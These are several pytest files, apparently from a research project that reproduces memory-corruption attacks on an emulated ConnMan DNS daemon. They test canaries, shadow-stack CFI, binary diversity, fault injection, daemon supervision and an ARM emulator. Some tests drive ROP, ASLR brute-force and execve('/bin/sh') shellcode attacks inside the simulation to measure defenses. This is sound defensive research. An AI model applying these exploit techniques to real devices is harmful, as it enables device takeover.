        canary.check_frame(process, 0x20100, "f")  # no raise

    def test_clobbered_frame_aborts(self):
        process = self.make_process()
        canary = StackCanary(random.Random(2))
        canary.arm_frame(process, 0x20100)
        process.memory.write_u32(0x20100, 0x41414141)
        with pytest.raises(CanaryClobbered):
            canary.check_frame(process, 0x20100, "f")


class TestShadowStackCfi:
    def make(self):
        loaded = loaded_pair("x86")
        return loaded, ShadowStackCfi.for_loaded(loaded)

    def test_valid_entries_include_functions_and_plt(self):
        loaded, cfi = self.make()
        assert loaded.address_of("parse_response") in cfi.valid_entries
        assert loaded.plt_address("memcpy") in cfi.valid_entries

    def test_matched_call_return_pair(self):
        loaded, cfi = self.make()
        process = loaded.process
        cfi.note_call(process, 0x08048123)
        cfi.check_return(process, 0, 0x08048123)
        assert cfi.depth == 0

    def test_mismatched_return_violates(self):
        loaded, cfi = self.make()
        cfi.note_call(loaded.process, 0x08048123)
        with pytest.raises(ControlFlowViolation):
            cfi.check_return(loaded.process, 0, 0xDEADBEEF)
        assert cfi.violations == 1

    def test_return_with_empty_shadow_violates(self):
        loaded, cfi = self.make()
        with pytest.raises(ControlFlowViolation):
            cfi.check_return(loaded.process, 0, 0x08048123)

    def test_nested_calls_lifo(self):
        loaded, cfi = self.make()
        process = loaded.process
        cfi.note_call(process, 0x1000)
        cfi.note_call(process, 0x2000)
        cfi.check_return(process, 0, 0x2000)
        cfi.check_return(process, 0, 0x1000)

    def test_indirect_to_function_entry_allowed(self):
        loaded, cfi = self.make()
        cfi.check_indirect(loaded.process, 0, loaded.plt_address("execlp"))

    def test_indirect_to_gadget_mid_function_violates(self):
        loaded, cfi = self.make()
        target = loaded.address_of("parse_response") + 2
        with pytest.raises(ControlFlowViolation):
            cfi.check_indirect(loaded.process, 0, target)

    def test_benign_daemon_traffic_unaffected(self):
        from repro.dns import SimpleDnsServer, StubResolver

        daemon = fresh_daemon("arm", profile=FULL)
        upstream = SimpleDnsServer(zone={"ok.example": "1.2.3.4"})
        transport = lambda p: daemon.handle_client_query(p, upstream.handle_query)
        for _ in range(3):
            result = StubResolver().resolve(transport, "ok.example")
            assert result.ok
        assert daemon.alive


class TestDiversity:
    def test_population_all_distinct_text(self):
        population = diversified_population("x86", "1.34", seeds=range(4))
        texts = {bytes(binary.section(".text").data) for binary in population}
        assert len(texts) == 4

    def test_compare_builds_reports(self):
        reference = build_connman("arm", seed=0)
        diversified = build_connman("arm", seed=2)
        report = compare_builds(reference, diversified)
        assert report.seed == 2
        assert 0 <= report.gadget_survival_rate < 1.0
        assert report.plt_total == len(reference.plt)

    def test_self_comparison_full_survival(self):
        reference = build_connman("x86", seed=0)
        report = compare_builds(reference, build_connman("x86", seed=0))
        assert report.gadget_survival_rate == 1.0
        assert report.plt_moved == 0

    def test_diversified_builds_equivalent_behaviour(self):
        """Diversity randomizes addresses, not semantics: both builds are
        exploitable with *their own* recon, and crash with foreign recon."""
        from repro.core import AttackScenario, attacker_knowledge, run_scenario
        from repro.exploit import X86RopMemcpyExeclp, deliver

        stock_knowledge = attacker_knowledge(AttackScenario("x86", "W^X+ASLR", WX_ASLR))
        stock_exploit = X86RopMemcpyExeclp().build(stock_knowledge)
        diversified = fresh_daemon(
            "x86", profile=WX_ASLR.with_(diversity_seed=6)
        )
        assert not deliver(stock_exploit, diversified).got_root_shell

        # Re-recon against the diversified build: works again.
        from repro.exploit import Debugger

        bench = fresh_daemon("x86", profile=WX.with_(diversity_seed=6))
        knowledge = Debugger(bench).knowledge(aslr_blind=True)
        fresh_victim = fresh_daemon("x86", profile=WX_ASLR.with_(diversity_seed=6))
        assert deliver(X86RopMemcpyExeclp().build(knowledge), fresh_victim).got_root_shell
