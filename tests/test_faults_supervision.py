"""The resilience layer: fault fabric, supervision, resilient resolution."""

import random

import pytest

from repro.connman import ConnmanDaemon, DaemonSupervisor
from repro.defenses import NONE, WX_ASLR
from repro.dns import (
    ResilientResolver,
    SimpleDnsServer,
    StubResolver,
    make_query,
)
from repro.exploit import AslrBruteForcer
from repro.net import (
    ChaosSchedule,
    DNS_PORT,
    FaultPolicy,
    Host,
    Network,
    faulty_transport,
)


def lan_with_dns(zone=None, faults=None):
    network = Network("lan", subnet_prefix="10.0.0", faults=faults)
    server_host = Host("dns")
    network.attach(server_host, ip="10.0.0.1")
    dns = SimpleDnsServer(zone=zone or {"a.example": "1.2.3.4"})
    server_host.bind_udp(DNS_PORT, lambda payload, _dgram: dns.handle_query(payload))
    return network, server_host, dns


class TestFaultPolicy:
    def test_no_rates_is_a_perfect_wire(self):
        policy = FaultPolicy(seed=1)
        for _ in range(100):
            payload, record = policy.process(b"hello", src="a", dst="b")
            assert payload == b"hello"
            assert record.kind == "delivered"
        assert policy.trace == []

    def test_same_seed_same_fault_trace(self):
        def trace_for(seed):
            policy = FaultPolicy(seed, drop=0.2, corrupt=0.2, truncate=0.1,
                                 duplicate=0.1, delay=0.2)
            results = []
            for number in range(200):
                payload, _record = policy.process(b"x" * 40, src="a", dst="b")
                results.append(payload)
            return policy.trace, results

        first_trace, first_results = trace_for(42)
        second_trace, second_results = trace_for(42)
        assert first_trace == second_trace
        assert first_results == second_results
        assert first_trace  # rates this high must actually inject something
        assert trace_for(43)[0] != first_trace

    def test_drop_rate_one_loses_everything(self):
        policy = FaultPolicy(seed=0, drop=1.0)
        payload, record = policy.process(b"data", src="a", dst="b")
        assert payload is None
        assert record.kind == "drop"

    def test_corrupt_changes_payload_same_length(self):
        policy = FaultPolicy(seed=3, corrupt=1.0)
        payload, record = policy.process(b"A" * 64, src="a", dst="b")
        assert record.kind == "corrupt"
        assert len(payload) == 64
        assert payload != b"A" * 64

    def test_truncate_shortens(self):
        policy = FaultPolicy(seed=3, truncate=1.0)
        payload, record = policy.process(b"B" * 64, src="a", dst="b")
        assert record.kind == "truncate"
        assert len(payload) < 64

    def test_partition_severs_both_directions(self):
        policy = FaultPolicy(seed=0)
        policy.partition({"10.0.0.1"}, {"10.0.0.100"})
        assert policy.process(b"x", src="10.0.0.100", dst="10.0.0.1")[0] is None
        assert policy.process(b"x", src="10.0.0.1", dst="10.0.0.100")[0] is None
        assert policy.process(b"x", src="10.0.0.2", dst="10.0.0.1")[0] == b"x"
        policy.heal_partitions()
        assert policy.process(b"x", src="10.0.0.100", dst="10.0.0.1")[0] == b"x"

    def test_link_override_beats_host_and_base(self):
        policy = FaultPolicy(seed=0, drop=1.0)
        policy.set_host("10.0.0.9", drop=1.0)
        policy.set_link("10.0.0.9", "10.0.0.1", drop=0.0)
        assert policy.process(b"x", src="10.0.0.9", dst="10.0.0.1")[0] == b"x"
        assert policy.process(b"x", src="10.0.0.1", dst="10.0.0.9")[0] is None


class TestNetworkFaults:
    def test_default_network_unchanged(self):
        network, _host, _dns = lan_with_dns()
        client = Host("client")
        network.attach(client)
        result = StubResolver().resolve(
            lambda packet: client.send_udp("10.0.0.1", DNS_PORT, packet),
            "a.example",
        )
        assert result.address == "1.2.3.4"

    def test_dropping_fabric_times_out_queries(self):
        network, _host, _dns = lan_with_dns(faults=FaultPolicy(seed=1, drop=1.0))
        client = Host("client")
        network.attach(client)
        reply = client.send_udp("10.0.0.1", DNS_PORT, make_query(1, "a.example").encode())
        assert reply is None

    def test_partitioned_hosts_cannot_talk(self):
        policy = FaultPolicy(seed=1)
        network, _host, dns = lan_with_dns(faults=policy)
        client = Host("client")
        client_ip = network.attach(client)
        policy.partition({client_ip}, {"10.0.0.1"})
        reply = client.send_udp("10.0.0.1", DNS_PORT, make_query(2, "a.example").encode())
        assert reply is None
        assert dns.log == []  # never even reached the server

    def test_chaos_schedule_windows(self):
        outage = FaultPolicy(seed=1, drop=1.0)
        schedule = ChaosSchedule().add_window(2, 4, outage)
        network, _host, _dns = lan_with_dns(faults=schedule)
        client = Host("client")
        network.attach(client)

        def ask(number):
            return client.send_udp("10.0.0.1", DNS_PORT,
                                   make_query(number, "a.example").encode())

        # A clean exchange burns two ticks (request + reply leg); a dropped
        # request burns one.  Window [2, 4) therefore kills two queries.
        assert ask(1) is not None   # ticks 0-1: before the window
        assert ask(2) is None       # tick 2: request leg dropped
        assert ask(3) is None       # tick 3: still inside the window
        assert ask(4) is not None   # ticks 4-5: window passed
        assert len(outage.trace) == 2


class TestResilientResolver:
    def test_failover_before_retry_ordering(self):
        calls = []

        def dark(packet):
            calls.append("dark")
            return None

        answers = SimpleDnsServer(zone={"a.example": "9.9.9.9"})

        def bright(packet):
            calls.append("bright")
            return answers.handle_query(packet)

        resolver = ResilientResolver([dark, bright], retries=2, rng=random.Random(1))
        reply = resolver(make_query(7, "a.example").encode())
        assert reply is not None
        # Failover reaches upstream 1 in round 1; no retry round needed.
        assert calls == ["dark", "bright"]
        assert [(a.upstream, a.round, a.outcome) for a in resolver.attempt_log] == [
            (0, 1, "timeout"), (1, 1, "answered"),
        ]

    def test_exhaustion_walks_every_round(self):
        resolver = ResilientResolver([lambda _p: None, lambda _p: None],
                                     retries=1, rng=random.Random(1))
        assert resolver(make_query(8, "a.example").encode()) is None
        wire = [(a.upstream, a.round) for a in resolver.attempt_log if a.upstream >= 0]
        assert wire == [(0, 1), (1, 1), (0, 2), (1, 2)]
        backoffs = [a for a in resolver.attempt_log if a.outcome == "backoff"]
        assert len(backoffs) == 1 and backoffs[0].backoff > 0
        assert resolver.exhausted == 1
        assert resolver.clock >= 4 * resolver.timeout

    def test_recovers_through_fault_fabric(self):
        policy = FaultPolicy(seed=5, drop=0.6)
        dns = SimpleDnsServer(zone={"a.example": "9.9.9.9"})
        resolver = ResilientResolver(
            [faulty_transport(dns.handle_query, policy, dst=f"ns{i}")
             for i in (1, 2)],
            retries=3, rng=random.Random(2),
        )
        served = sum(
            1 for number in range(20)
            if resolver(make_query(number, "a.example").encode()) is not None
        )
        assert served >= 15  # retries + failover beat a 60% loss fabric
        assert served > 20 * 0.16 * 2  # far better than one lossy try would do
        assert any(a.outcome == "timeout" for a in resolver.attempt_log)


class TestServeStale:
    def fresh_daemon(self):
        return ConnmanDaemon(arch="x86", profile=NONE, rng=random.Random(1))

    def test_stale_answer_when_upstreams_dark(self):
        daemon = self.fresh_daemon()
        live = SimpleDnsServer(zone={"a.example": "1.2.3.4"})
        warm = ResilientResolver([live.handle_query], retries=0)
        assert daemon.handle_client_query(make_query(1, "a.example").encode(), warm)

        daemon.cache.advance(10_000)  # entry now TTL-expired
        dark = ResilientResolver([lambda _p: None], retries=0)
        result = StubResolver().resolve(
            lambda packet: daemon.handle_client_query(packet, dark), "a.example"
        )
        assert result.address == "1.2.3.4"
        assert dark.stale_served == 1

    def test_serve_stale_opt_out(self):
        daemon = self.fresh_daemon()
        live = ResilientResolver([SimpleDnsServer(zone={"a.example": "1.2.3.4"}).handle_query])
        daemon.handle_client_query(make_query(1, "a.example").encode(), live)
        daemon.cache.advance(10_000)
        strict = ResilientResolver([lambda _p: None], retries=0, serve_stale=False)
        assert daemon.handle_client_query(make_query(2, "a.example").encode(), strict) is None

    def test_no_stale_for_plain_transport(self):
        daemon = self.fresh_daemon()
        live = SimpleDnsServer(zone={"a.example": "1.2.3.4"})
        daemon.handle_client_query(make_query(1, "a.example").encode(), live.handle_query)
        daemon.cache.advance(10_000)
        assert daemon.handle_client_query(
            make_query(2, "a.example").encode(), lambda _p: None
        ) is None

    def test_nothing_cached_means_no_answer(self):
        daemon = self.fresh_daemon()
        dark = ResilientResolver([lambda _p: None], retries=0)
        assert daemon.handle_client_query(
            make_query(3, "never-seen.example").encode(), dark
        ) is None


class TestSupervisor:
    def crashing_daemon(self):
        daemon = ConnmanDaemon(arch="x86", profile=WX_ASLR, rng=random.Random(2))
        daemon.crashed = True
        return daemon

    def test_restarts_with_exponential_backoff(self):
        daemon = self.crashing_daemon()
        supervisor = DaemonSupervisor(daemon, restart_delay=1.0, backoff_factor=2.0,
                                      start_limit_burst=4)
        boots = daemon.boots
        assert supervisor.ensure_running()
        assert daemon.boots == boots + 1
        daemon.crashed = True
        assert supervisor.ensure_running()
        delays = [record.backoff for record in supervisor.restarts]
        assert delays == [1.0, 2.0]
        assert supervisor.total_downtime == 3.0

    def test_crash_loop_budget_exhaustion(self):
        daemon = self.crashing_daemon()
        supervisor = DaemonSupervisor(daemon, start_limit_burst=3,
                                      start_limit_interval=1_000.0)
        for _ in range(3):
            assert supervisor.ensure_running()
            daemon.crashed = True
        assert not supervisor.ensure_running()  # start-limit hit
        assert supervisor.gave_up
        assert not supervisor.ensure_running()  # and it stays failed
        assert daemon.boots == 4  # initial boot + 3 supervised restarts

    def test_quiet_period_resets_the_burst_window(self):
        daemon = self.crashing_daemon()
        supervisor = DaemonSupervisor(daemon, start_limit_burst=2,
                                      start_limit_interval=50.0)
        for _ in range(2):
            assert supervisor.ensure_running()
            daemon.crashed = True
        supervisor.tick(100.0)  # a long healthy stretch
        assert supervisor.ensure_running()  # window rolled: budget refreshed
        assert not supervisor.gave_up
        assert supervisor.restarts[-1].backoff == supervisor.restart_delay

    def test_aslr_redraws_per_restart(self):
        daemon = self.crashing_daemon()
        supervisor = DaemonSupervisor(daemon, start_limit_burst=10)
        bases = set()
        for _ in range(6):
            assert supervisor.ensure_running()
            bases.add(daemon.loaded.layout.libc_base)
            daemon.crashed = True
        assert len(bases) > 1


class TestSupervisedBruteForce:
    def test_budget_halts_the_attack(self):
        profile = WX_ASLR.with_(aslr_entropy_pages=64)
        free_victim = ConnmanDaemon(arch="x86", profile=profile, rng=random.Random(424))
        free = AslrBruteForcer(free_victim, max_attempts=192,
                               rng=random.Random(17)).run()
        assert free.succeeded

        capped_victim = ConnmanDaemon(arch="x86", profile=profile, rng=random.Random(424))
        supervisor = DaemonSupervisor(capped_victim, start_limit_burst=8)
        capped = AslrBruteForcer(capped_victim, max_attempts=192,
                                 rng=random.Random(17), supervisor=supervisor).run()
        assert not capped.succeeded
        assert capped.halted_by_supervisor
        assert capped.attempts < free.attempts
        assert "start-limit" in capped.describe()
        assert supervisor.gave_up

    def test_reply_faults_burn_attempts_without_crashes(self):
        profile = WX_ASLR.with_(aslr_entropy_pages=64)
        victim = ConnmanDaemon(arch="x86", profile=profile, rng=random.Random(5))
        lossy = FaultPolicy(seed=9, drop=1.0)
        result = AslrBruteForcer(victim, max_attempts=12, rng=random.Random(6),
                                 reply_faults=lossy).run()
        assert not result.succeeded
        assert result.outcomes == ["lost"] * 12
        assert victim.boots == 1  # nothing ever reached the parser


class TestChaosSweep:
    def test_same_seed_same_report(self):
        from repro.core import run_chaos_sweep

        first = run_chaos_sweep((0.0, 0.4), seed=77, queries_per_rate=10,
                                attack_budget=12)
        second = run_chaos_sweep((0.0, 0.4), seed=77, queries_per_rate=10,
                                 attack_budget=12)
        assert first.to_dict() == second.to_dict()

    def test_clean_point_has_no_degradation(self):
        from repro.core import run_chaos_point

        cell = run_chaos_point(0.0, seed=3, queries=10, attack_budget=8)
        assert cell.failed == 0
        assert cell.stale == 0
        assert cell.answered == cell.queries
        assert cell.faults_injected == 0

    def test_faulty_point_degrades_gracefully(self):
        from repro.core import run_chaos_point

        cell = run_chaos_point(0.5, seed=3, queries=16, attack_budget=8)
        assert cell.faults_injected > 0
        assert cell.answered < cell.queries
        assert cell.stale + cell.failed > 0
