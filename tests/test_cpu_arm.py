"""ARM assembler/decoder round-trips and emulator semantics."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.cpu import IllegalInstruction, Process, make_emulator
from repro.cpu.arm import asm
from repro.cpu.arm.disasm import decode, decode_word, linear_sweep
from repro.mem import AddressSpace, Perm

LOW_REGS = [f"r{i}" for i in range(8)]


def run_code(scratch_space, code, *, sp=0x2F000, max_steps=1000, setup=None):
    scratch_space.write(0x1000, code, check=False)
    process = Process("arm", scratch_space)
    process.pc = 0x1000
    process.sp = sp
    if setup:
        setup(process)
    result = make_emulator(process).run(max_steps)
    return process, result


class TestAssemblerDecoder:
    def test_mov_r1_r1_is_the_paper_word(self):
        # §III-A2 uses the 4-byte effect-free word as the ARM sled unit.
        insn = decode(asm.mov_r1_r1(), 0)
        assert insn.mnemonic == "mov" and insn.operands == ("r1", "r1")

    def test_mov_imm_rotation(self):
        insn = decode(asm.mov_imm("r0", 0xFF000000), 0)
        assert insn.operands == ("r0", 0xFF000000)

    def test_unencodable_immediate_rejected(self):
        with pytest.raises(ValueError):
            asm.mov_imm("r0", 0x12345678)

    def test_add_imm(self):
        insn = decode(asm.add_imm("r0", "pc", 12), 0)
        assert insn.mnemonic == "add" and insn.operands == ("r0", "r15", 12)

    def test_push_pop_reglists(self):
        insn = decode(asm.pop(["r0", "r1", "r2", "r3", "r5", "r6", "r7", "pc"]), 0)
        assert insn.mnemonic == "pop"
        assert insn.operands[0] == ("r0", "r1", "r2", "r3", "r5", "r6", "r7", "r15")

    def test_pop_gadget_encoding_matches_arm_arm(self):
        # LDMIA sp!, {r0-r3,r5-r7,pc} == 0xE8BD80EF.
        word = asm.pop(["r0", "r1", "r2", "r3", "r5", "r6", "r7", "pc"])
        assert word == bytes.fromhex("ef80bde8")

    def test_empty_reglist_rejected(self):
        with pytest.raises(ValueError):
            asm.push([])

    def test_bx_blx(self):
        assert decode(asm.bx("lr"), 0).operands == ("r14",)
        assert decode(asm.blx_reg("r3"), 0).mnemonic == "blx"

    def test_branch_offsets(self):
        insn = decode(asm.b(0x1000, 0x2000), 0x1000)
        assert insn.mnemonic == "b" and insn.operands == (0x2000,)
        insn = decode(asm.bl(0x2000, 0x1000), 0x2000)
        assert insn.mnemonic == "bl" and insn.operands == (0x1000,)

    def test_branch_range_check(self):
        with pytest.raises(ValueError):
            asm.b(0, 0x04000000)

    def test_svc(self):
        insn = decode(asm.svc(0), 0)
        assert insn.mnemonic == "svc" and insn.operands == (0,)

    def test_ldr_str_offsets(self):
        insn = decode(asm.ldr("r0", "r1", 8), 0)
        assert insn.operands == ("r0", "r1", 8)
        insn = decode(asm.str_("r2", "sp", -4), 0)
        assert insn.operands == ("r2", "r13", -4)

    def test_mvn(self):
        insn = decode(asm.mvn_imm("r3", 0), 0)
        assert insn.mnemonic == "mvn" and insn.operands == ("r3", 0)

    def test_conditional_words_are_bad_in_tolerant_mode(self):
        # A NE-condition instruction is outside the AL-only subset.
        assert decode_word(0x1A000000, 0, strict=False).is_bad

    def test_strict_mode_raises_on_bad(self):
        with pytest.raises(IllegalInstruction):
            decode_word(0xE7F000F0, 0)  # udf

    def test_register_aliases(self):
        assert asm.reg_number("sp") == 13
        assert asm.reg_number("lr") == 14
        assert asm.reg_number("pc") == 15
        with pytest.raises(ValueError):
            asm.reg_number("r16")

    def test_linear_sweep_word_granular(self):
        code = asm.nop() + b"\xff\xff\xff\xff" + asm.bx("lr")
        insns = linear_sweep(code, 0x1000)
        assert [i.mnemonic for i in insns] == ["mov", "(bad)", "bx"]
        assert all(i.size == 4 for i in insns)


ROUNDTRIP_BUILDERS = [
    lambda reg, imm: asm.mov_imm(reg, imm & 0xFF),
    lambda reg, imm: asm.mov_reg(reg, "r1"),
    lambda reg, imm: asm.add_imm(reg, reg, (imm & 0xFF) or 1),
    lambda reg, imm: asm.sub_imm(reg, "r2", (imm & 0xFF) or 1),
    lambda reg, imm: asm.add_reg(reg, reg, "r3"),
    lambda reg, imm: asm.push([reg, "lr"]),
    lambda reg, imm: asm.pop([reg, "pc"]),
    lambda reg, imm: asm.bx(reg),
    lambda reg, imm: asm.blx_reg(reg),
    lambda reg, imm: asm.ldr(reg, "sp", imm & 0xFF),
    lambda reg, imm: asm.str_(reg, "sp", imm & 0xFF),
]


@settings(max_examples=100)
@given(
    builder=st.sampled_from(ROUNDTRIP_BUILDERS),
    reg=st.sampled_from(LOW_REGS),
    imm=st.integers(min_value=0, max_value=0xFFFFFFFF),
)
def test_property_asm_disasm_roundtrip(builder, reg, imm):
    code = builder(reg, imm)
    insn = decode(code, 0x1000)
    assert insn.size == 4
    assert insn.raw == code
    assert not insn.is_bad


@settings(max_examples=60)
@given(value=st.integers(min_value=0, max_value=0xFF),
       rotation=st.integers(min_value=0, max_value=15))
def test_property_rotated_immediates_roundtrip(value, rotation):
    """Any encodable rotated immediate decodes back to the same value."""
    encoded = ((value >> (2 * rotation)) | (value << (32 - 2 * rotation))) & 0xFFFFFFFF if rotation else value
    code = asm.mov_imm("r0", encoded)
    insn = decode(code, 0)
    assert insn.operands == ("r0", encoded)


class TestEmulator:
    def test_mov_and_add(self, scratch_space):
        code = (
            asm.mov_imm("r0", 7)
            + asm.add_imm("r1", "r0", 5)
            + asm.sub_imm("r2", "r1", 2)
            + asm.svc(0x99)  # unknown syscall number -> returns ENOSYS, continues
            + b"\xff\xff\xff\xff"
        )
        process, result = run_code(scratch_space, code)
        assert process.registers["r1"] == 12
        assert process.registers["r2"] == 10
        assert result.crashed  # ends at the bad word

    def test_pc_reads_plus_eight(self, scratch_space):
        code = asm.add_imm("r0", "pc", 0) + b"\xff\xff\xff\xff"
        process, _ = run_code(scratch_space, code)
        assert process.registers["r0"] == 0x1008

    def test_push_pop_order(self, scratch_space):
        code = (
            asm.mov_imm("r4", 4)
            + asm.mov_imm("r5", 5)
            + asm.push(["r4", "r5"])
            + asm.pop(["r6", "r7"])
            + b"\xff\xff\xff\xff"
        )
        process, _ = run_code(scratch_space, code)
        # STMDB stores r4 lowest; LDMIA loads r6 from lowest -> r6 = old r4.
        assert process.registers["r6"] == 4
        assert process.registers["r7"] == 5

    def test_pop_into_pc_branches(self, scratch_space):
        scratch_space.write(0x1100, b"\xff\xff\xff\xff", check=False)

        def setup(process):
            process.push_u32(0x1100)

        process, result = run_code(scratch_space, asm.pop(["pc"]), setup=setup)
        assert process.pc == 0x1100
        assert result.crashed

    def test_bx_lr_returns(self, scratch_space):
        def setup(process):
            process.registers["r14"] = 0x1100
        scratch_space.write(0x1100, b"\xff\xff\xff\xff", check=False)
        process, _ = run_code(scratch_space, asm.bx("lr"), setup=setup)
        assert process.pc == 0x1100

    def test_blx_sets_link_register(self, scratch_space):
        def setup(process):
            process.registers["r3"] = 0x1100
        scratch_space.write(0x1100, b"\xff\xff\xff\xff", check=False)
        process, _ = run_code(scratch_space, asm.blx_reg("r3"), setup=setup)
        assert process.registers["r14"] == 0x1004
        assert process.pc == 0x1100

    def test_bl_and_return(self, scratch_space):
        code = asm.bl(0x1000, 0x1100) + b"\xff\xff\xff\xff"
        scratch_space.write(0x1100, asm.bx("lr"), check=False)
        process, result = run_code(scratch_space, code)
        assert result.crashed
        assert process.pc == 0x1004  # returned, then hit the bad word

    def test_ldr_str_memory(self, scratch_space):
        code = (
            asm.mov_imm("r0", 0x42)
            + asm.str_("r0", "sp", -4)
            + asm.ldr("r1", "sp", -4)
            + b"\xff\xff\xff\xff"
        )
        process, _ = run_code(scratch_space, code)
        assert process.registers["r1"] == 0x42

    def test_misaligned_pc_faults(self, scratch_space):
        def setup(process):
            process.push_u32(0x1101)
        _, result = run_code(scratch_space, asm.pop(["pc"]), setup=setup)
        assert result.crashed
        assert isinstance(result.fault, IllegalInstruction)

    def test_mvn_complements(self, scratch_space):
        code = asm.mvn_imm("r3", 0) + b"\xff\xff\xff\xff"
        process, _ = run_code(scratch_space, code)
        assert process.registers["r3"] == 0xFFFFFFFF

    def test_shellcode_spawns_root_shell(self, scratch_space):
        from repro.exploit import arm_execve_binsh

        process, result = run_code(scratch_space, arm_execve_binsh())
        assert result.spawned
        assert process.spawned_root_shell
        assert process.spawns[0].path == "/bin/sh"

    def test_exit_syscall(self, scratch_space):
        code = asm.mov_imm("r0", 3) + asm.mov_imm("r7", 1) + asm.svc(0)
        process, result = run_code(scratch_space, code)
        assert result.reason == "exit"
        assert process.exit.code == 3
