"""Traffic-log fidelity: the sniffer sees exactly what the victim received.

The paper's workflow diagnoses attacks by watching the wire (Pineapple
capture, §VI) and the victim (crash triage, §III); these tests pin the
contract that makes that possible — the traffic log records post-fault
bytes, duplicate legs get their own entries, and a capture round-trips
through the pcap text format without loss.
"""

from repro.dns import SimpleDnsServer, make_query
from repro.net import DNS_PORT, FaultPolicy, Host, Network, PacketSniffer, UdpDatagram
from repro.obs import export_pcap_text, parse_pcap_text, sniff_capture


def faulty_lan(policy, subnet="10.42.0"):
    """LAN with a recording DNS server: returns (network, server, received)."""
    network = Network("fidelity-lan", subnet_prefix=subnet, faults=policy)
    server = Host("dns-server")
    network.attach(server, ip=f"{subnet}.1")
    dns = SimpleDnsServer(default_address="203.0.113.9")
    received = []

    def handler(payload, _dgram):
        received.append(payload)
        try:
            return dns.handle_query(payload)
        except Exception:
            # A corrupted query can decode into a name the benign codec
            # refuses to re-encode; a real server would drop it.
            return None

    server.bind_udp(DNS_PORT, handler)
    client = Host("client")
    network.attach(client)
    return network, client, server, received


class TestPostFaultLogging:
    def test_corrupted_request_logged_as_received(self):
        policy = FaultPolicy(seed=7, corrupt=1.0)
        network, client, server, received = faulty_lan(policy)
        original = make_query(0x1234, "victim.example").encode()
        client.send_udp(server.ip, DNS_PORT, original)
        request_leg = network.traffic[0]
        # The wire shows the corrupted bytes — exactly what the handler got.
        assert request_leg.payload == received[0]
        assert request_leg.payload != original

    def test_clean_request_logged_verbatim(self):
        network, client, server, received = faulty_lan(None)
        query = make_query(1, "ok.example").encode()
        client.send_udp(server.ip, DNS_PORT, query)
        assert network.traffic[0].payload == query == received[0]

    def test_sniffer_sees_what_victim_received(self):
        policy = FaultPolicy(seed=11, corrupt=0.5)
        network, client, server, received = faulty_lan(policy)
        sniffer = PacketSniffer()
        sniffer.attach(network)
        for number in range(12):
            query = make_query(0x2000 + number, f"h{number}.example").encode()
            client.send_udp(server.ip, DNS_PORT, query)
        sniffer.poll()
        sniffed_requests = [p.datagram.payload for p in sniffer.captured
                            if p.datagram.dst_port == DNS_PORT]
        assert sniffed_requests == received

    def test_dropped_leg_not_in_traffic(self):
        policy = FaultPolicy(seed=3, drop=1.0)
        network, client, server, received = faulty_lan(policy)
        client.send_udp(server.ip, DNS_PORT, make_query(2, "x.example").encode())
        assert network.traffic == []
        assert received == []


class TestDuplicateLegs:
    def test_duplicate_request_logged_twice(self):
        policy = FaultPolicy(seed=5, duplicate=1.0)
        network, client, server, received = faulty_lan(policy)
        query = make_query(0x3333, "dup.example").encode()
        client.send_udp(server.ip, DNS_PORT, query)
        request_legs = [d for d in network.traffic if d.dst_port == DNS_PORT]
        assert len(request_legs) == 2
        assert [leg.payload for leg in request_legs] == received
        assert len(received) == 2

    def test_duplicate_reply_crosses_fabric_and_is_logged(self):
        # duplicate=1.0 makes *every* leg duplicate, including the
        # replies — so one send yields 2 request legs and 2 reply legs.
        policy = FaultPolicy(seed=5, duplicate=1.0)
        network, client, server, _received = faulty_lan(policy)
        client.send_udp(server.ip, DNS_PORT, make_query(7, "d.example").encode())
        reply_legs = [d for d in network.traffic if d.src_port == DNS_PORT]
        assert len(reply_legs) == 2
        assert all(leg.dst_ip == client.ip for leg in reply_legs)
        # Each reply leg consumed its own fault decision (the duplicate
        # copy itself does not re-cross the fabric): 1 request + 2
        # replies = 3 decisions.  Before the fix the duplicate's reply
        # was discarded unprocessed, leaving only 2.
        assert policy.decisions == 3

    def test_first_answer_wins_socket(self):
        policy = FaultPolicy(seed=5, duplicate=1.0)
        network, client, server, _received = faulty_lan(policy)
        answer = client.send_udp(server.ip, DNS_PORT,
                                 make_query(9, "w.example").encode())
        reply_legs = [d for d in network.traffic if d.src_port == DNS_PORT]
        assert answer == reply_legs[0].payload


class TestPcapRoundTrip:
    def test_export_parse_round_trip(self):
        policy = FaultPolicy(seed=13, corrupt=0.3, duplicate=0.3)
        network, client, server, _received = faulty_lan(policy)
        for number in range(8):
            client.send_udp(server.ip, DNS_PORT,
                            make_query(number, f"rt{number}.example").encode())
        text = export_pcap_text(network)
        name, datagrams = parse_pcap_text(text)
        assert name == network.name
        assert datagrams == network.traffic

    def test_sniffer_round_trip_matches_live_capture(self):
        policy = FaultPolicy(seed=13, corrupt=0.5)
        network, client, server, _received = faulty_lan(policy)
        live = PacketSniffer()
        live.attach(network)
        for number in range(10):
            client.send_udp(server.ip, DNS_PORT,
                            make_query(number, f"s{number}.example").encode())
        live.poll()
        replayed = sniff_capture(export_pcap_text(network))
        assert len(replayed) == len(live.captured)
        for replay, original in zip(replayed, live.captured):
            assert replay.datagram == original.datagram
            assert replay.suspicious == original.suspicious

    def test_empty_payload_record(self):
        text = export_pcap_text_of([UdpDatagram("1.1.1.1", 1, "2.2.2.2", 2, b"")])
        _name, datagrams = parse_pcap_text(text)
        assert datagrams[0].payload == b""


def export_pcap_text_of(datagrams):
    from repro.obs import export_datagrams

    return export_datagrams(datagrams)
