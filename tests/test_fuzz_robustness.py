"""Fuzz-style robustness properties.

The simulation must be *total*: arbitrary bytes as guest code, DNS
packets, or upstream replies may crash the emulated daemon (that is the
point of the paper) but must never raise an unexpected exception in the
host — every outcome is a typed event or a clean fault result.
"""

import random

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.connman import ConnmanDaemon, DaemonEvent, EventKind
from repro.cpu import Process, make_emulator
from repro.defenses import NONE, WX_ASLR
from repro.dns import Message, MessageDecodeError, PointerLoopError, SimpleDnsServer
from repro.mem import AddressSpace, Perm
from tests.conftest import fresh_daemon

VALID_END_REASONS = {"fault", "exit", "execve", "abort", "daemon-continue"}


@settings(max_examples=120, deadline=None)
@given(code=st.binary(min_size=1, max_size=256), arch=st.sampled_from(["x86", "arm"]))
def test_property_random_code_never_breaks_the_host(code, arch):
    """Random bytes executed as guest code end in a clean typed result."""
    space = AddressSpace()
    space.map_new("code", 0x1000, 0x1000, Perm.RWX)
    space.map_new("stack", 0x20000, 0x4000, Perm.RW | Perm.X)
    space.write(0x1000, code, check=False)
    process = Process(arch, space)
    process.pc = 0x1000
    process.sp = 0x23000
    result = make_emulator(process).run(max_steps=2000)
